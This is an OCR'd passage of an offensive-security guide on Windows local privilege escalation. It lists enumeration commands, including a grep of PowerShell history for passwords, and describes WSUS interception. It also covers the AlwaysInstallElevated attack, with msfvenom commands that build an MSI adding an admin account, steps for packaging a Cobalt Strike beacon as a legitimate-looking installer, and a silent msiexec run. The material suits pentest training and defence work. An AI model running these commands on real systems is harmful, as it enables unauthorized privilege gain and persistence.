Windows Local Privilege Escalation

LearnAWS hacking from zero to hero with htARTE (HackTricks AWS Red Team Expert)!

Best tool to look for Windows local privilege escalation vectors: WinPEAS

Initial Windows Theory

Access Tokens

If you don't know what are Windows Access Tokens, read the following page before continuing:

pageAccess Tokens


Check the following page for more info about ACLs - DACLs/SACLs/ACEs:


Integrity Levels

If you don't know what are integrity levels in Windows you should read the following page before continuing:

pageIntegrity LevelsWindows Security Controls

There are different things in Windows that could prevent you from enumerating the system, run executables or even detect your activities. You should read the following page and enumerate all these defenses mechanisms before starting the privilege escalation enumeration:

pageWindows Security Controls

SystemInfo

Version info enumeration

Check if the Windows version has any known vulnerability (check also the patches applied).

systeminfo | findstr /B /C:"OS Name" /C:"OS Version" #Get only that information
wmic qfe get Caption,Description,HotFixID,InstalledOn #Patches
wmic os get osarchitecture || echo %PROCESSOR_ARCHITECTURE% #Get system architecture
[System.Environment]::OSVersion.Version #Current OS version
Get-WmiObject -query 'select * from win32_quickfixengineering' | foreach {$_.hotfixid} #List all patches
Get-Hotfix -description "Security update" #List only "Security Update" patches

Version Exploits

This site is handy for searching out detailed information about Microsoft security vulnerabilities. This database has more than 4,700 security vulnerabilities, showing the massive attack surface that a Windows environment presents.

On the system

  • post/windows/gather/enum_patches

  • post/multi/recon/local_exploit_suggester

  • winpeas (Winpeas has watson embedded)

Locally with system information

Github repos of exploits:


Any credential/Juicy info saved in the env variables?

dir env:
Get-ChildItem Env: | ft Key,ValuePowerShell History

ConsoleHost_history #Find the PATH where is saved

type %userprofile%\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadline\ConsoleHost_history.txt
type C:\Users\swissky\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadline\ConsoleHost_history.txt
type $env:APPDATA\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt
cat (Get-PSReadlineOption).HistorySavePath
cat (Get-PSReadlineOption).HistorySavePath | sls passw

PowerShell Transcript files

You can learn how to turn this on in

#Check is enable in the registry
reg query HKCU\Software\Policies\Microsoft\Windows\PowerShell\Transcription
reg query HKLM\Software\Policies\Microsoft\Windows\PowerShell\Transcription
reg query HKCU\Wow6432Node\Software\Policies\Microsoft\Windows\PowerShell\Transcription
reg queryHKLM\Wow6432Node\Software\Policies\Microsoft\Windows\PowerShell\Transcription
dir C:\Transcripts

#Start a Transcription session
Start-Transcript -Path "C:\transcripts\transcript0.txt" -NoClobber

PowerShell Module Logging

Details of PowerShell pipeline executions are recorded, encompassing executed commands, command invocations, and parts of scripts. However, complete execution details and output results might not be captured.

To enable this, follow the instructions in the "Transcript files" section of the documentation, opting for "Module Logging" instead of "Powershell Transcription".

reg query HKCU\Software\Policies\Microsoft\Windows\PowerShell\ModuleLogging
reg query HKLM\Software\Policies\Microsoft\Windows\PowerShell\ModuleLogging
reg query HKCU\Wow6432Node\Software\Policies\Microsoft\Windows\PowerShell\ModuleLogging
reg query HKLM\Wow6432Node\Software\Policies\Microsoft\Windows\PowerShell\ModuleLogging

To view the last 15 events from PowersShell logs you can execute:

Get-WinEvent -LogName "windows Powershell" | select -First 15 | Out-GridView

PowerShell Script Block Logging

A complete activity and full content record of the script's execution is captured, ensuring that every block of code is documented as it runs. This process preserves a comprehensive audit trail of each activity, valuable for forensics and analyzing malicious behavior. By documenting all activity at the time of execution,detailed insights into the process are provided.

reg query HKCU\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging
reg query HKLM\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging
reg query HKCU\Wow6432Node\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging
reg query HKLM\Wow6432Node\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging

Logging events for the Script Block can be located within the Windows Event Viewer at the path: Application and Services Logs > Microsoft > Windows > PowerShell > Operational. To view the last 20 events you can use:

Get-WinEvent -LogName "Microsoft-Windows-Powershell/Operational" | select -first 20 | Out-GridviewInternet Settings

reg query "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings"
reg query "HKLM\Software\Microsoft\Windows\CurrentVersion\Internet Settings"


wmic logicaldisk get caption || fsutil fsinfo drives
wmic logicaldisk get caption,description,providername
Get-PSDrive | where {$_.Provider -like "Microsoft.PowerShell.Core\FileSystem"}| ft Name,Root


You can compromise the system if the updates are not requested using httpS but http.

You start by checking if the network uses a non-SSL WSUS update by running the following:

reg query HKLM\Software\Policies\Microsoft\Windows\WindowsUpdate /v WUServer

If you get a reply such as:

      WUServer    REG_SZ

And if HKLM\Software\Policies\Microsoft\Windows\WindowsUpdate\AU /v UseWUServer is equals to 1.

Then, it is exploitable. If the last registry is equals to 0, then, the WSUS entry will be ignored.

In orther to exploit this vulnerabilities you can use tools like: Wsuxploit, pyWSUS - These are MiTM weaponized exploits scripts to inject 'fake' updates into non-SSL WSUS traffic.

Read the research here:

WSUS CVE-2020-1013

Read the complete report here. Basically, this isthe flaw that this bug exploits:

If we have the power to modify our local user proxy, and Windows Updates uses the proxy configured in Internet Explorer’s settings, we therefore have the power to run PyWSUS locally to intercept our own traffic and run code as an elevated user on our asset.

Furthermore, since the WSUS service uses the current user’s settings, it will also use its certificate store. If we generate a self-signed certificate for the WSUS hostname and add this certificate into the current user’s certificate store, we will be able to intercept both HTTP and HTTPS WSUS traffic. WSUS uses no HSTS-like mechanisms to implement a trust-on-first-use type validation on the certificate. If the certificate presented is trusted by the user and has the correct hostname, it will be accepted by the service.

You can exploit this vulnerability using the tool WSUSpicious (once it's liberated).


A local privilege escalation vulnerability exists in Windows domain environments under specificconditions. These conditions include environments where LDAP signing is not enforced, users possess self-rights allowing them to configure Resource-Based Constrained Delegation (RBCD), and the capability for users to create computers within the domain. It is important to note that these requirements are met using default settings.

Find the exploit in

For more information about the flow of the attack check


If these 2 registers are enabled (value is 0x1), then users of any privilege can install (execute) *.msi files as NT AUTHORITY\SYSTEM.

reg query HKCU\SOFTWARE\Policies\Microsoft\Windows\Installer /v AlwaysInstallElevated
reg query HKLM\SOFTWARE\Policies\Microsoft\Windows\Installer /v AlwaysInstallElevated

Metasploit payloads

msfvenom -p windows/adduser USER=rottenadmin PASS=P@ssword123! -f msi-nouac -o alwe.msi #No uac format
msfvenom -p windows/adduser USER=rottenadmin PASS=P@ssword123! -f msi -o alwe.msi #Using the msiexec the uac wont be prompted

If you have a meterpreter session you can automate this technique using the module exploit/windows/local/always_install_elevated


Use the Write-UserAddMSI command from power-up to create inside the current directory a Windows MSI binary to escalate privileges. This script writes out a precompiled MSI installer that prompts for a user/group addition (so you will need GIU access):


Just execute the created binary to escalate privileges.

MSI Wrapper

Read this tutorial to learn how to create a MSI wrapper using this tools. Note that you can wrap a ".bat" file if you just want to execute command lines

pageMSI WrapperCreate MSI with WIX

pageCreate MSI with WIX

Create MSI with Visual Studio

  • Generate with Cobalt Strike or Metasploit a new Windows EXE TCP payload in C:\privesc\beacon.exe

  • Open Visual Studio, select Create a new project and type "installer" into the search box. Select the Setup Wizard project and click Next.

  • Give the project a name, like AlwaysPrivesc, use C:\privesc for the location, select place solution and project in the same directory, and click Create.

  • Keep clicking Next until you get to step 3 of 4 (choose files to include). Click Add and select the Beacon payload you just generated. Then click Finish.

  • Highlight the AlwaysPrivesc project in the Solution Explorer and in the Properties, change TargetPlatform from x86 to x64.

    • There are other properties you can change, such as the Author and Manufacturer which can make the installed app look more legitimate.

  • Right-click the project and select View > Custom Actions.

  • Right-click Install and select Add Custom Action.• Double-click on Application Folder, select your beacon.exe file and click OK. This will ensure that the beacon payload is executed as soon as the installer is run.

  • Under the Custom Action Properties, change Run64Bit to True.

  • Finally, build it.

    • If the warning File 'beacon-tcp.exe' targeting 'x64' is not compatible with the project's target platform 'x86' is shown, make sure you set the platform to x64.

MSI Installation

To execute the installation of the malicious .msi file in background:msiexec /quiet /qn /i C:\Users\Steve.INFERNO\Downloads\alwe.msi

To exploit this vulnerability you can use: exploit/windows/local/always_install_elevated

Antivirus and Detectors

Audit Settings

These settings decide what is being logged, so you should pay attention

reg query HKLM\Software\Microsoft\Windows\CurrentVersion\Policies\System\Audit


Windows Event Forwarding, is interesting to know where are the logs sentreg query HKLM\Software\Policies\Microsoft\Windows\EventLog\EventForwarding\SubscriptionManager


LAPS is designed for the management of local Administrator passwords, ensuring that each password is unique, randomised, and regularly updated on computers joined to a domain. These passwords are securely stored within Active Directory and can only be accessed by users who have been granted sufficient permissions through ACLs, allowing them to view local admin passwords if authorized.



If active, plain-text passwords are stored in LSASS (Local Security Authority Subsystem Service). More info about WDigest in this page.

reg query 'HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest' /v UseLogonCredential

LSA Protection

Starting with Windows 8.1, Microsoft introduced enhanced protection for the Local SecurityAuthority (LSA) to block attempts by untrusted processes to read its memory or inject code, further securing the system. More info about LSA Protection here.

reg query 'HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\LSA' /v RunAsPPL

Credentials Guard

Credential Guard wasn introduced in Windows 10. Its purpose is to safeguard the credentials stored on a device against threats like pass-the-hash attacks.| More info about Credentials Guard here.

reg query 'HKLM\System\CurrentControlSet\Control\LSA' /v LsaCfgFlags

Cached Credentials

Domain credentials are authenticated by the Local Security Authority (LSA) and utilized by operating system components. When a user's logon data is authenticated by a registered security package, domain credentials for the user are typically established. More info about Cached Credentials here.


Users & Groups

Enumerate Users & Groups

You should check if any of the groupswhere you belong have interesting permissions

net users %username% #Me
net users #All local users
net localgroup #Groups
net localgroup Administrators #Who is inside Administrators group
whoami /all #Check the privileges

# PS
Get-WmiObject -Class Win32_UserAccount
Get-LocalUser | ft Name,Enabled,LastLogon
Get-ChildItem C:\Users -Force | select Name
Get-LocalGroupMember Administrators | ft Name, PrincipalSource

